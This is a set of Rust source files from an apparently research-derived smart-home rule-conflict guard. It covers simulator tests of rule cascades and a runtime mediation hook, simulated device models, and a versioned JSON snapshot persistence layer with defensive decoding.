    }

    #[test]
    fn delayed_action_applies_later() {
        let mut h = home_with_lamp_and_motion();
        let mut rule = simple_rule("OnThenOff", "motion-1", "motion", "active", "lamp-1", "on");
        rule.actions
            .push(Action::device(bound("lamp-1"), "off").after(300));
        h.install_rule(rule);
        h.stimulate("motion-1", "motion", Value::sym("active"));
        // Queue drained: both immediate and delayed actions applied.
        assert_eq!(h.attr("lamp-1", "switch"), Some(&Value::sym("off")));
        assert!(h.now >= 300_000);
    }

    #[test]
    fn env_effects_move_environment_and_trigger_env_rules() {
        let mut h = Home::new(7);
        let mut heater = Device::new("heat-1", "Space heater", "switch", DeviceKind::Heater);
        heater.set("switch", Value::sym("off"));
        h.add_device(heater);
        let mut fan = Device::new("fan-1", "Fan", "switch", DeviceKind::Fan);
        fan.set("switch", Value::sym("off"));
        h.add_device(fan);
        // Env-triggered rule: temperature rises above 21.2 -> fan on.
        h.install_rule(Rule {
            id: RuleId::new("HeatWatcher", 0),
            trigger: Trigger::DeviceEvent {
                subject: bound("tsensor-1"),
                attribute: "temperature".into(),
                constraint: Some(Formula::cmp(
                    Term::var(VarId::env("temperature")),
                    CmpOp::Gt,
                    Term::num(2120),
                )),
            },
            condition: Condition::always(),
            actions: vec![Action::device(bound("fan-1"), "on")],
        });
        h.stimulate("heat-1", "switch", Value::sym("on"));
        // The heater warms the home past 21.2 (trace shows the rise)...
        assert!(h
            .env_history(EnvProperty::Temperature)
            .iter()
            .any(|value| *value > 2120));
        // ...which fires the env-triggered fan rule (whose own physics then
        // cool the room back — the environmental feedback loop at work).
        assert_eq!(h.attr("fan-1", "switch"), Some(&Value::sym("on")));
    }

    #[test]
    fn loop_triggering_is_bounded() {
        // on-rule and off-rule trigger each other forever; the budget stops
        // the cascade instead of hanging.
        let mut h = home_with_lamp_and_motion();
        h.install_rule(simple_rule(
            "OnWhenOff",
            "lamp-1",
            "switch",
            "off",
            "lamp-1",
            "on",
        ));
        h.install_rule(simple_rule(
            "OffWhenOn",
            "lamp-1",
            "switch",
            "on",
            "lamp-1",
            "off",
        ));
        h.stimulate("lamp-1", "switch", Value::sym("on"));
        let flips = h.attr_history("lamp-1", "switch").len();
        assert!(flips > 10, "loop should flap many times, got {flips}");
    }

    /// A scripted mediator for hook tests: suppresses one named rule's
    /// firings and defers one device's commands.
    struct ScriptedMediator {
        suppress_rule: String,
        defer_device: String,
        command_calls: usize,
    }

    impl Mediator for ScriptedMediator {
        fn on_rule_fire(&mut self, rule: &hg_rules::rule::RuleId, _at: SimTime) -> Decision {
            if rule.to_string() == self.suppress_rule {
                Decision::Suppress
            } else {
                Decision::Allow
            }
        }

        fn on_command(
            &mut self,
            _rule: &hg_rules::rule::RuleId,
            device: &str,
            _command: &str,
            _at: SimTime,
        ) -> Decision {
            self.command_calls += 1;
            // One-shot defer: the replayed command is allowed through, the
            // same contract hg-runtime's enforcer keeps via defer tokens.
            if device == self.defer_device && self.command_calls == 1 {
                Decision::Defer { delay_ms: 500 }
            } else {
                Decision::Allow
            }
        }
    }

    #[test]
    fn mediator_suppresses_rule_firing() {
        let mut h = home_with_lamp_and_motion();
        h.install_rule(simple_rule(
            "MotionLight",
            "motion-1",
            "motion",
            "active",
            "lamp-1",
            "on",
        ));
        h.set_mediator(Box::new(ScriptedMediator {
            suppress_rule: "MotionLight#0".into(),
            defer_device: String::new(),
            command_calls: 0,
        }));
        h.stimulate("motion-1", "motion", Value::sym("active"));
        assert_eq!(h.attr("lamp-1", "switch"), Some(&Value::sym("off")));
        assert!(
            !h.fired("MotionLight#0"),
            "suppressed firing must not trace"
        );
    }

    #[test]
    fn mediator_defers_commands_without_losing_them() {
        let mut h = home_with_lamp_and_motion();
        h.install_rule(simple_rule(
            "MotionLight",
            "motion-1",
            "motion",
            "active",
            "lamp-1",
            "on",
        ));
        h.set_mediator(Box::new(ScriptedMediator {
            suppress_rule: String::new(),
            defer_device: "lamp-1".into(),
            command_calls: 0,
        }));
        h.stimulate("motion-1", "motion", Value::sym("active"));
        // The command still lands, half a second later.
        assert_eq!(h.attr("lamp-1", "switch"), Some(&Value::sym("on")));
        let writes: Vec<_> = h.trace_for("lamp-1").map(TraceEntry::at).collect();
        assert_eq!(writes, vec![500]);
    }

    #[test]
    fn mode_action_changes_mode_and_cascades() {
        let mut h = home_with_lamp_and_motion();
        // presence-style: motion active -> setLocationMode("Night").
        h.install_rule(Rule {
            id: RuleId::new("ModeSetter", 0),
            trigger: Trigger::DeviceEvent {
                subject: bound("motion-1"),
                attribute: "motion".into(),
                constraint: Some(Formula::var_eq(
                    VarId::device_attr(bound("motion-1"), "motion"),
                    Value::sym("active"),
                )),
            },
            condition: Condition::always(),
            actions: vec![hg_rules::rule::Action {
                subject: ActionSubject::LocationMode,
                command: "setLocationMode".into(),
                params: vec![Term::sym("Night")],
                when_secs: 0,
                period_secs: 0,
            }],
        });
        // mode-triggered rule: Night -> lamp on.
        h.install_rule(Rule {
            id: RuleId::new("NightLamp", 0),
            trigger: Trigger::ModeChange {
                constraint: Some(Formula::var_eq(VarId::Mode, Value::sym("Night"))),
            },
            condition: Condition::always(),
            actions: vec![Action::device(bound("lamp-1"), "on")],
        });
        h.stimulate("motion-1", "motion", Value::sym("active"));
        assert_eq!(h.mode, "Night");
        assert_eq!(h.attr("lamp-1", "switch"), Some(&Value::sym("on")));
    }
}
