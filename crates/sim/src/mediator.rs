//! Runtime mediation hook: the simulator's event loop consults an installed
//! [`Mediator`] before firing a rule and before executing an actuator
//! command, so a threat-handling engine (e.g. `hg-runtime`'s enforcer) can
//! sit inline on live event traffic.
//!
//! The hook is deliberately narrow: the mediator sees only plain event data
//! (rule identity, device id, command, virtual time) and answers with a
//! [`Decision`]. A home without a mediator — or a mediator that always
//! answers [`Decision::Allow`] — behaves bit-for-bit like an unmediated
//! home under the same seed: the hook consumes no randomness and leaves the
//! event queue untouched on the allow path.

use crate::home::SimTime;
use hg_rules::rule::RuleId;

/// A mediation verdict for one intercepted runtime event.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Decision {
    /// Let the event proceed unchanged.
    Allow,
    /// Suppress the event entirely (the rule does not fire / the command
    /// does not execute).
    Suppress,
    /// Delay the event by the given number of simulated milliseconds.
    Defer {
        /// How long to postpone the event.
        delay_ms: u64,
    },
}

impl Decision {
    /// Whether the event is allowed to proceed now.
    pub fn allows(&self) -> bool {
        matches!(self, Decision::Allow)
    }
}

/// An inline runtime mediator: intercepts rule firings and actuator
/// commands in the simulator's event loop.
pub trait Mediator {
    /// Called when `rule`'s trigger matched and its condition holds, right
    /// before its actions are scheduled.
    fn on_rule_fire(&mut self, rule: &RuleId, at: SimTime) -> Decision;

    /// Called when a device command issued by `rule` is about to execute
    /// against `device`.
    fn on_command(&mut self, rule: &RuleId, device: &str, command: &str, at: SimTime) -> Decision;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn allow_is_the_only_proceeding_decision() {
        assert!(Decision::Allow.allows());
        assert!(!Decision::Suppress.allows());
        assert!(!Decision::Defer { delay_ms: 5 }.allows());
    }
}
