//! Simulated devices: the data layer's sensors and actuators (paper Fig. 1).

use hg_capability::capability::{self, AttrEffect};
use hg_capability::device_kind::DeviceKind;
use hg_capability::domains::AttrDomain;
use hg_rules::value::Value;
use std::collections::BTreeMap;

/// A simulated device: a bundle of attributes plus its physical kind.
#[derive(Debug, Clone)]
pub struct Device {
    /// Unique device id (what the configuration collector would report).
    pub id: String,
    /// Human-readable label.
    pub label: String,
    /// The primary capability.
    pub capability: &'static str,
    /// The physical kind, for environment effects.
    pub kind: DeviceKind,
    /// Current attribute values.
    pub attributes: BTreeMap<String, Value>,
}

impl Device {
    /// Creates a device with its capability's attributes at default values
    /// (first enum member / domain minimum).
    pub fn new(
        id: impl Into<String>,
        label: impl Into<String>,
        capability_name: &'static str,
        kind: DeviceKind,
    ) -> Device {
        let mut attributes = BTreeMap::new();
        if let Some(cap) = capability::lookup(capability_name) {
            for attr in cap.attributes {
                let v = match attr.domain {
                    AttrDomain::Enum(values) => Value::Sym(quiescent(attr.name, values)),
                    AttrDomain::Numeric { min, .. } => Value::Num(min.max(0)),
                    AttrDomain::Text => Value::Sym(String::new()),
                };
                attributes.insert(attr.name.to_string(), v);
            }
        }
        Device {
            id: id.into(),
            label: label.into(),
            capability: capability_name,
            kind,
            attributes,
        }
    }

    /// Reads an attribute.
    pub fn get(&self, attribute: &str) -> Option<&Value> {
        self.attributes.get(attribute)
    }

    /// Sets an attribute, returning the previous value if it changed.
    pub fn set(&mut self, attribute: &str, value: Value) -> Option<Value> {
        let old = self.attributes.insert(attribute.to_string(), value.clone());
        match old {
            Some(o) if o == value => None,
            other => other.or(Some(Value::Null)),
        }
    }

    /// Executes a command: applies its attribute effects, returning the
    /// attribute changes as `(attribute, new value)` pairs.
    pub fn execute(&mut self, command: &str, params: &[Value]) -> Vec<(String, Value)> {
        let Some(cap) = capability::lookup(self.capability) else {
            return Vec::new();
        };
        let Some(cmd) = cap.command(command) else {
            return Vec::new();
        };
        let mut changes = Vec::new();
        for effect in cmd.effects {
            let (attr, value) = match effect {
                AttrEffect::SetConst { attribute, value } => {
                    (attribute.to_string(), Value::Sym(value.to_string()))
                }
                AttrEffect::SetParam {
                    attribute,
                    param_index,
                } => {
                    let Some(v) = params.get(*param_index) else {
                        continue;
                    };
                    (attribute.to_string(), v.clone())
                }
            };
            if self.set(&attr, value.clone()).is_some() {
                changes.push((attr, value));
            }
        }
        changes
    }
}

/// The quiescent (resting) value for an enum attribute: devices start
/// inactive, closed, off, dry and locked so that stimuli produce changes.
fn quiescent(attribute: &str, values: &'static [&'static str]) -> String {
    let preferred = match attribute {
        "switch" | "alarm" | "thermostatMode" => "off",
        "motion" | "acceleration" => "inactive",
        "contact" | "valve" | "door" | "windowShade" => "closed",
        "presence" => "not present",
        "lock" => "locked",
        "water" => "dry",
        "smoke" | "carbonMonoxide" => "clear",
        "sleeping" => "not sleeping",
        "status" => "stopped",
        "mute" => "unmuted",
        _ => "",
    };
    if values.contains(&preferred) {
        preferred.to_string()
    } else {
        values[0].to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn new_device_has_quiescent_defaults() {
        let d = Device::new("sw-1", "Lamp", "switch", DeviceKind::Light);
        assert_eq!(d.get("switch"), Some(&Value::Sym("off".into())));
        let m = Device::new("m-1", "Motion", "motionSensor", DeviceKind::Unknown);
        assert_eq!(m.get("motion"), Some(&Value::Sym("inactive".into())));
        let c = Device::new("c-1", "Door", "contactSensor", DeviceKind::Unknown);
        assert_eq!(c.get("contact"), Some(&Value::Sym("closed".into())));
    }

    #[test]
    fn execute_on_off() {
        let mut d = Device::new("sw-1", "Lamp", "switch", DeviceKind::Light);
        d.set("switch", Value::sym("off"));
        let changes = d.execute("on", &[]);
        assert_eq!(changes, vec![("switch".to_string(), Value::sym("on"))]);
        // Idempotent command: no change event.
        assert!(d.execute("on", &[]).is_empty());
    }

    #[test]
    fn execute_set_level() {
        let mut d = Device::new("dim-1", "Dimmer", "switchLevel", DeviceKind::Light);
        let changes = d.execute("setLevel", &[Value::from_natural(40)]);
        assert_eq!(changes.len(), 1);
        assert_eq!(d.get("level"), Some(&Value::from_natural(40)));
    }

    #[test]
    fn unknown_command_is_noop() {
        let mut d = Device::new("sw-1", "Lamp", "switch", DeviceKind::Light);
        assert!(d.execute("teleport", &[]).is_empty());
    }

    #[test]
    fn set_reports_change_only_on_difference() {
        let mut d = Device::new("l-1", "Lock", "lock", DeviceKind::Lock);
        let prev = d.set("lock", Value::sym("unlocked"));
        assert!(prev.is_some());
        assert!(d.set("lock", Value::sym("unlocked")).is_none());
    }
}
