//! # hg-persist — versioned snapshot serialization
//!
//! The paper's deployment model assumes a long-lived per-home guard whose
//! confirmed threat decisions survive across sessions; before this crate
//! the whole system was memory-only — a process restart silently discarded
//! the rule database, every Allowed list and all mediation state. This
//! crate is the durability layer:
//!
//! * **Store snapshots** ([`store_to_text`] / [`store_from_text`]) — the
//!   rule database with its cached analyses and live ingest fingerprints,
//!   so a restarted store answers unchanged-source ingests from cache
//!   (warm restart) instead of re-extracting the world.
//! * **Home snapshots** ([`home_to_text`] / [`home_from_text`]) — one
//!   session's ground truth: installed apps and rules, confirmed/Allowed
//!   threat decisions, the configuration recorder and the handling-policy
//!   table. This is the migration unit: export a home from one process,
//!   import it into another fleet.
//! * **Fleet snapshots** ([`FleetSnapshot`]) — the whole service: store +
//!   every home + registry routing parameters, produced and consumed by
//!   `hg_service::Fleet::{snapshot, restore}`.
//!
//! ## What is (deliberately) not serialized
//!
//! Snapshots hold **ground truth only**. Derived state — the detection
//! engine's candidate-index postings, the compiled [`MediationIndex`]
//! (`hg-runtime`), any live enforcer — is rebuilt on restore from the
//! rules and the Allowed list, so a snapshot can never disagree with the
//! state it implies. Per-run enforcer memory (one-shot defer grants,
//! fired-rule traces) and effort counters never survive a restart at all.
//!
//! ## Format and versioning guarantees
//!
//! Snapshots are a single JSON document in the same hand-rolled codec the
//! rule-store database uses ([`hg_rules::json`]); an app's rules appear in
//! a snapshot as *exactly* the rule-file bytes the database holds. Every
//! document carries `{"version": N, "kind": "store"|"home"|"fleet"}`;
//! readers refuse an unknown version or kind — and any corrupt or garbage
//! input — with a typed [`HgError::Snapshot`](homeguard_core::HgError),
//! never a panic and never a half-applied restore.
//!
//! [`MediationIndex`]: hg_runtime::MediationIndex
//!
//! ## Example
//!
//! ```
//! use homeguard_core::{Home, RuleStore};
//! use hg_persist::{home_from_text, home_to_text};
//! use std::sync::Arc;
//!
//! let store = RuleStore::shared();
//! let mut home = Home::new(store.clone());
//! home.install_app(r#"
//!     definition(name: "OnApp")
//!     input "m", "capability.motionSensor"
//!     input "lamp", "capability.switch", title: "lamp"
//!     def installed() { subscribe(m, "motion.active", h) }
//!     def h(evt) { lamp.on() }
//! "#, "OnApp", None).unwrap();
//!
//! // "The process restarts": only the snapshot text survives.
//! let bytes = home_to_text(&home.export_state());
//! let revived = Home::restore_state(store, home_from_text(&bytes).unwrap());
//! assert_eq!(revived.installed_apps(), vec!["OnApp".to_string()]);
//! assert_eq!(revived.installed_rules().len(), 1);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod codec;
pub mod snapshot;

pub use snapshot::{home_from_text, home_to_text, store_from_text, store_to_text, FleetSnapshot};
