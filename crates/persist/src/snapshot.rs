//! Snapshot envelopes: versioned, self-describing documents for a rule
//! store, a single home session, or a whole fleet.
//!
//! Every envelope carries the schema version
//! ([`hg_rules::json::SCHEMA_VERSION`]) and a `kind` tag. Readers refuse a
//! wrong version or kind with a typed [`HgError::Snapshot`] — a snapshot
//! written by a future schema generation fails loudly instead of being
//! half-misread into a live fleet.

use crate::codec;
use hg_rules::json::{Json, SCHEMA_VERSION};
use homeguard_core::{HgError, HomeId, HomeState, StoreState};

fn envelope(kind: &'static str, payload: Json) -> Json {
    Json::obj([
        ("version", Json::Num(SCHEMA_VERSION)),
        ("kind", Json::str(kind)),
        ("payload", payload),
    ])
}

fn open_envelope(text: &str, kind: &str) -> Result<Json, HgError> {
    let doc = Json::parse(text).map_err(|e| codec::snap_err(e.to_string()))?;
    match doc.get("version").and_then(Json::as_num) {
        Some(v) if v == SCHEMA_VERSION => {}
        Some(v) => {
            return Err(codec::snap_err(format!(
                "schema version {v} (this build reads {SCHEMA_VERSION})"
            )))
        }
        None => return Err(codec::snap_err("missing schema version")),
    }
    match doc.get("kind").and_then(Json::as_str) {
        Some(k) if k == kind => {}
        Some(k) => {
            return Err(codec::snap_err(format!(
                "snapshot kind `{k}` where `{kind}` was expected"
            )))
        }
        None => return Err(codec::snap_err("missing snapshot kind")),
    }
    doc.get("payload")
        .cloned()
        .ok_or_else(|| codec::snap_err("missing payload"))
}

/// Serializes a store's exported state (see `RuleStore::export_state`).
pub fn store_to_text(state: &StoreState) -> String {
    envelope("store", codec::store_state_to_json(state)).to_text()
}

/// Parses a store snapshot back.
///
/// # Errors
///
/// [`HgError::Snapshot`] on corrupt bytes, a wrong schema version or kind,
/// or a structurally invalid document.
pub fn store_from_text(text: &str) -> Result<StoreState, HgError> {
    codec::store_state_from_json(&open_envelope(text, "store")?)
}

/// Serializes one home session's exported state — the migration unit: a
/// home exported here can be imported into a different process's fleet.
pub fn home_to_text(state: &HomeState) -> String {
    envelope("home", codec::home_state_to_json(state)).to_text()
}

/// Parses a home snapshot back.
///
/// # Errors
///
/// As [`store_from_text`].
pub fn home_from_text(text: &str) -> Result<HomeState, HgError> {
    codec::home_state_from_json(&open_envelope(text, "home")?)
}

/// A whole-fleet snapshot: the shared store, every registered home's
/// session state, and the registry's routing parameters. Produced by
/// `Fleet::snapshot()`, consumed by `Fleet::restore()`; [`to_text`] /
/// [`from_text`] are the durable byte form in between.
///
/// [`to_text`]: FleetSnapshot::to_text
/// [`from_text`]: FleetSnapshot::from_text
#[derive(Debug, Clone)]
pub struct FleetSnapshot {
    /// Shard count — preserved so restored home ids route to the same
    /// shard they lived in.
    pub shards: usize,
    /// The id counter, so post-restore `create_home` never reissues a
    /// handle a restored home already holds.
    pub next_id: u64,
    /// The shared rule store's state.
    pub store: StoreState,
    /// Every home's session state, ascending by id.
    pub homes: Vec<(HomeId, HomeState)>,
    /// Optional telemetry aggregate envelope (the metrics registry's
    /// exported counters/histograms, `MetricsRegistry::export_state`),
    /// carried opaquely so counters survive a warm restart. `None` — the
    /// `Fleet::snapshot` default — serializes to exactly the pre-telemetry
    /// document: ground-truth snapshot bytes are bit-identical whether or
    /// not observability is running, and old snapshots read back fine.
    pub telemetry: Option<Json>,
}

impl FleetSnapshot {
    /// Serializes the snapshot to its durable text form.
    pub fn to_text(&self) -> String {
        let mut payload = vec![
            ("shards", Json::Num(self.shards as i64)),
            ("nextId", Json::Num(self.next_id as i64)),
            ("store", codec::store_state_to_json(&self.store)),
            (
                "homes",
                Json::Arr(
                    self.homes
                        .iter()
                        .map(|(id, state)| {
                            Json::obj([
                                ("id", Json::Num(id.raw() as i64)),
                                ("home", codec::home_state_to_json(state)),
                            ])
                        })
                        .collect(),
                ),
            ),
        ];
        if let Some(telemetry) = &self.telemetry {
            payload.push(("telemetry", telemetry.clone()));
        }
        envelope("fleet", Json::obj(payload)).to_text()
    }

    /// Parses a fleet snapshot back.
    ///
    /// # Errors
    ///
    /// [`HgError::Snapshot`] on corrupt bytes, a wrong schema version or
    /// kind, a structurally invalid document, or duplicate home ids.
    pub fn from_text(text: &str) -> Result<FleetSnapshot, HgError> {
        let payload = open_envelope(text, "fleet")?;
        let shards = payload
            .get("shards")
            .and_then(Json::as_num)
            .filter(|&n| n > 0)
            .ok_or_else(|| codec::snap_err("missing or invalid shard count"))?
            as usize;
        let next_id = codec::nonneg_field(&payload, "nextId")? as u64;
        let store = codec::store_state_from_json(
            payload
                .get("store")
                .ok_or_else(|| codec::snap_err("missing store"))?,
        )?;
        let mut homes: Vec<(HomeId, HomeState)> = Vec::new();
        let mut seen = std::collections::BTreeSet::new();
        for entry in payload
            .get("homes")
            .and_then(Json::as_arr)
            .ok_or_else(|| codec::snap_err("missing homes"))?
        {
            let id = HomeId::new(codec::nonneg_field(entry, "id")? as u64);
            if !seen.insert(id) {
                return Err(codec::snap_err(format!("duplicate home id {id}")));
            }
            let state = codec::home_state_from_json(
                entry
                    .get("home")
                    .ok_or_else(|| codec::snap_err("home entry missing state"))?,
            )?;
            homes.push((id, state));
        }
        Ok(FleetSnapshot {
            shards,
            next_id,
            store,
            homes,
            telemetry: payload.get("telemetry").cloned(),
        })
    }
}
