//! Field codecs for snapshot documents.
//!
//! Everything here rides on the hand-rolled [`Json`] document type from
//! `hg-rules` — rules themselves reuse the rule-file codec verbatim, so a
//! snapshot's rule encoding is *the same bytes* the store database holds.
//! Every decoder returns [`HgError::Snapshot`] naming the malformed field;
//! garbage input is a typed error, never a panic.

use hg_capability::domains::EnvProperty;
use hg_detector::{Threat, ThreatKind};
use hg_rules::json::{
    rule_from_json, rule_to_json, rules_from_text, value_from_json, value_to_json, varid_from_json,
    varid_to_json, Json,
};
use hg_rules::rule::RuleId;
use hg_runtime::{HandlingPolicy, PolicyTable};
use hg_solver::Assignment;
use hg_symexec::{AppAnalysis, ExtractorConfig, InputDecl, InputType};
use homeguard_core::{HgError, HomeState, StoreAppState, StoreState, UnificationPolicy};
use std::sync::Arc;

/// Builds the crate's uniform decode failure, [`HgError::Snapshot`].
pub fn snap_err(detail: impl Into<String>) -> HgError {
    HgError::Snapshot(detail.into())
}

fn str_field(j: &Json, field: &str) -> Result<String, HgError> {
    j.get(field)
        .and_then(Json::as_str)
        .map(str::to_string)
        .ok_or_else(|| snap_err(format!("missing string field `{field}`")))
}

/// A semantically non-negative numeric field (an index, a count, a
/// window). A negative value is a corrupt or forged document and must be
/// refused — blindly `as`-casting it to an unsigned type would produce a
/// huge value (e.g. a `Defer` window of u64::MAX milliseconds) instead of
/// the typed error this crate guarantees.
pub fn nonneg_field(j: &Json, field: &str) -> Result<i64, HgError> {
    let n = j
        .get(field)
        .and_then(Json::as_num)
        .ok_or_else(|| snap_err(format!("missing numeric field `{field}`")))?;
    if n < 0 {
        return Err(snap_err(format!("negative `{field}`: {n}")));
    }
    Ok(n)
}

fn bool_field(j: &Json, field: &str) -> Result<bool, HgError> {
    match j.get(field) {
        Some(Json::Bool(b)) => Ok(*b),
        _ => Err(snap_err(format!("missing boolean field `{field}`"))),
    }
}

fn arr_field<'a>(j: &'a Json, field: &str) -> Result<&'a [Json], HgError> {
    j.get(field)
        .and_then(Json::as_arr)
        .ok_or_else(|| snap_err(format!("missing array field `{field}`")))
}

fn str_arr_field(j: &Json, field: &str) -> Result<Vec<String>, HgError> {
    arr_field(j, field)?
        .iter()
        .map(|s| {
            s.as_str()
                .map(str::to_string)
                .ok_or_else(|| snap_err(format!("non-string entry in `{field}`")))
        })
        .collect()
}

// ----- rule identities and threats -------------------------------------------

fn rule_id_to_json(r: &RuleId) -> Json {
    Json::obj([
        ("app", Json::str(&r.app)),
        ("index", Json::Num(r.index as i64)),
    ])
}

fn rule_id_from_json(j: &Json) -> Result<RuleId, HgError> {
    Ok(RuleId::new(
        str_field(j, "app")?,
        nonneg_field(j, "index")? as usize,
    ))
}

fn kind_to_json(kind: ThreatKind) -> Json {
    Json::str(kind.acronym())
}

fn kind_from_json(j: &Json) -> Result<ThreatKind, HgError> {
    let acronym = j
        .as_str()
        .ok_or_else(|| snap_err("threat kind not a string"))?;
    ThreatKind::ALL
        .into_iter()
        .find(|k| k.acronym() == acronym)
        .ok_or_else(|| snap_err(format!("unknown threat kind `{acronym}`")))
}

fn witness_to_json(witness: &Assignment) -> Json {
    Json::Arr(
        witness
            .iter()
            .map(|(var, value)| {
                Json::obj([("var", varid_to_json(var)), ("value", value_to_json(value))])
            })
            .collect(),
    )
}

fn witness_from_json(j: &Json) -> Result<Assignment, HgError> {
    let mut witness = Assignment::new();
    for entry in j.as_arr().ok_or_else(|| snap_err("witness not an array"))? {
        let var = varid_from_json(
            entry
                .get("var")
                .ok_or_else(|| snap_err("witness missing var"))?,
        )
        .map_err(snap_err)?;
        let value = value_from_json(
            entry
                .get("value")
                .ok_or_else(|| snap_err("witness missing value"))?,
        )
        .map_err(snap_err)?;
        witness.insert(var, value);
    }
    Ok(witness)
}

/// Encodes one detected threat (kind, endpoint rules, witness,
/// environment channel) as a snapshot document field.
pub fn threat_to_json(t: &Threat) -> Json {
    Json::obj([
        ("kind", kind_to_json(t.kind)),
        ("source", rule_id_to_json(&t.source)),
        ("target", rule_id_to_json(&t.target)),
        (
            "witness",
            t.witness
                .as_ref()
                .map(witness_to_json)
                .unwrap_or(Json::Null),
        ),
        (
            "actuator",
            t.actuator.as_deref().map(Json::str).unwrap_or(Json::Null),
        ),
        (
            "property",
            t.property
                .map(|p| Json::str(p.name()))
                .unwrap_or(Json::Null),
        ),
        ("note", Json::str(&t.note)),
    ])
}

/// Decodes a [`threat_to_json`] document.
pub fn threat_from_json(j: &Json) -> Result<Threat, HgError> {
    let property = match j.get("property") {
        None | Some(Json::Null) => None,
        Some(p) => {
            let name = p
                .as_str()
                .ok_or_else(|| snap_err("property not a string"))?;
            Some(
                EnvProperty::from_name(name)
                    .ok_or_else(|| snap_err(format!("unknown env property `{name}`")))?,
            )
        }
    };
    Ok(Threat {
        kind: kind_from_json(
            j.get("kind")
                .ok_or_else(|| snap_err("threat missing kind"))?,
        )?,
        source: rule_id_from_json(
            j.get("source")
                .ok_or_else(|| snap_err("threat missing source"))?,
        )?,
        target: rule_id_from_json(
            j.get("target")
                .ok_or_else(|| snap_err("threat missing target"))?,
        )?,
        witness: match j.get("witness") {
            None | Some(Json::Null) => None,
            Some(w) => Some(witness_from_json(w)?),
        },
        actuator: match j.get("actuator") {
            None | Some(Json::Null) => None,
            Some(a) => Some(
                a.as_str()
                    .ok_or_else(|| snap_err("actuator not a string"))?
                    .to_string(),
            ),
        },
        property,
        note: str_field(j, "note")?,
    })
}

// ----- handling policies ------------------------------------------------------

fn policy_to_json(p: &HandlingPolicy) -> Json {
    match p {
        HandlingPolicy::Block => Json::obj([("type", Json::str("block"))]),
        HandlingPolicy::Notify => Json::obj([("type", Json::str("notify"))]),
        HandlingPolicy::Defer { window_ms } => Json::obj([
            ("type", Json::str("defer")),
            ("windowMs", Json::Num(*window_ms as i64)),
        ]),
        HandlingPolicy::Priority(order) => Json::obj([
            ("type", Json::str("priority")),
            (
                "order",
                Json::Arr(order.iter().map(rule_id_to_json).collect()),
            ),
        ]),
    }
}

fn policy_from_json(j: &Json) -> Result<HandlingPolicy, HgError> {
    match j.get("type").and_then(Json::as_str) {
        Some("block") => Ok(HandlingPolicy::Block),
        Some("notify") => Ok(HandlingPolicy::Notify),
        Some("defer") => Ok(HandlingPolicy::Defer {
            window_ms: nonneg_field(j, "windowMs")? as u64,
        }),
        Some("priority") => Ok(HandlingPolicy::Priority(
            arr_field(j, "order")?
                .iter()
                .map(rule_id_from_json)
                .collect::<Result<_, _>>()?,
        )),
        _ => Err(snap_err("unknown handling policy type")),
    }
}

/// Encodes a runtime threat-handling policy table.
pub fn policy_table_to_json(table: &PolicyTable) -> Json {
    Json::obj([
        ("fallback", policy_to_json(table.fallback())),
        (
            "byKind",
            Json::Arr(
                table
                    .entries()
                    .map(|(kind, policy)| {
                        Json::obj([
                            ("kind", kind_to_json(kind)),
                            ("policy", policy_to_json(policy)),
                        ])
                    })
                    .collect(),
            ),
        ),
    ])
}

/// Decodes a [`policy_table_to_json`] document.
pub fn policy_table_from_json(j: &Json) -> Result<PolicyTable, HgError> {
    let fallback = policy_from_json(
        j.get("fallback")
            .ok_or_else(|| snap_err("table missing fallback"))?,
    )?;
    let mut table = PolicyTable::uniform(fallback);
    for entry in arr_field(j, "byKind")? {
        let kind = kind_from_json(
            entry
                .get("kind")
                .ok_or_else(|| snap_err("entry missing kind"))?,
        )?;
        let policy = policy_from_json(
            entry
                .get("policy")
                .ok_or_else(|| snap_err("entry missing policy"))?,
        )?;
        table = table.with(kind, policy);
    }
    Ok(table)
}

// ----- analyses and extractor configuration -----------------------------------

fn input_type_to_json(t: &InputType) -> Json {
    let (kind, arg) = match t {
        InputType::Capability(c) => ("capability", Json::str(c)),
        InputType::NonStandardDevice(d) => ("nonStandardDevice", Json::str(d)),
        InputType::Number => ("number", Json::Null),
        InputType::Decimal => ("decimal", Json::Null),
        InputType::Enum(options) => ("enum", Json::Arr(options.iter().map(Json::str).collect())),
        InputType::Text => ("text", Json::Null),
        InputType::Time => ("time", Json::Null),
        InputType::Phone => ("phone", Json::Null),
        InputType::Contact => ("contact", Json::Null),
        InputType::Mode => ("mode", Json::Null),
        InputType::Bool => ("bool", Json::Null),
        InputType::Other(o) => ("other", Json::str(o)),
    };
    Json::obj([("kind", Json::str(kind)), ("arg", arg)])
}

fn input_type_from_json(j: &Json) -> Result<InputType, HgError> {
    let arg_str = || {
        j.get("arg")
            .and_then(Json::as_str)
            .map(str::to_string)
            .ok_or_else(|| snap_err("input type missing string arg"))
    };
    match j.get("kind").and_then(Json::as_str) {
        Some("capability") => Ok(InputType::Capability(arg_str()?)),
        Some("nonStandardDevice") => Ok(InputType::NonStandardDevice(arg_str()?)),
        Some("number") => Ok(InputType::Number),
        Some("decimal") => Ok(InputType::Decimal),
        Some("enum") => Ok(InputType::Enum(
            j.get("arg")
                .and_then(Json::as_arr)
                .ok_or_else(|| snap_err("enum input missing options"))?
                .iter()
                .map(|o| {
                    o.as_str()
                        .map(str::to_string)
                        .ok_or_else(|| snap_err("non-string enum option"))
                })
                .collect::<Result<_, _>>()?,
        )),
        Some("text") => Ok(InputType::Text),
        Some("time") => Ok(InputType::Time),
        Some("phone") => Ok(InputType::Phone),
        Some("contact") => Ok(InputType::Contact),
        Some("mode") => Ok(InputType::Mode),
        Some("bool") => Ok(InputType::Bool),
        Some("other") => Ok(InputType::Other(arg_str()?)),
        _ => Err(snap_err("unknown input type")),
    }
}

fn input_decl_to_json(d: &InputDecl) -> Json {
    Json::obj([
        ("name", Json::str(&d.name)),
        ("type", input_type_to_json(&d.input_type)),
        (
            "title",
            d.title.as_deref().map(Json::str).unwrap_or(Json::Null),
        ),
        ("required", Json::Bool(d.required)),
        ("multiple", Json::Bool(d.multiple)),
    ])
}

fn input_decl_from_json(j: &Json) -> Result<InputDecl, HgError> {
    Ok(InputDecl {
        name: str_field(j, "name")?,
        input_type: input_type_from_json(
            j.get("type")
                .ok_or_else(|| snap_err("input missing type"))?,
        )?,
        title: match j.get("title") {
            None | Some(Json::Null) => None,
            Some(t) => Some(
                t.as_str()
                    .ok_or_else(|| snap_err("input title not a string"))?
                    .to_string(),
            ),
        },
        required: bool_field(j, "required")?,
